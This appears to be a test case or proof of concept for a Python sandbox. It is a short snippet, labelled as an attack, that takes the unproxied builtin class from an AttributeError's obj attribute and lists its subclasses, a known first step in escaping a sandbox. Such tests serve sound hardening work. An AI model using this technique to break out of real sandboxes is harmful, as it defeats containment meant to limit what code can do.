# attack: AttributeError.obj hands out the unproxied builtin class behind the sandbox's list
try:
    list.no_such_attribute
except AttributeError as e:
    real = e.obj
print(getattr(real, "__subclasses__")())
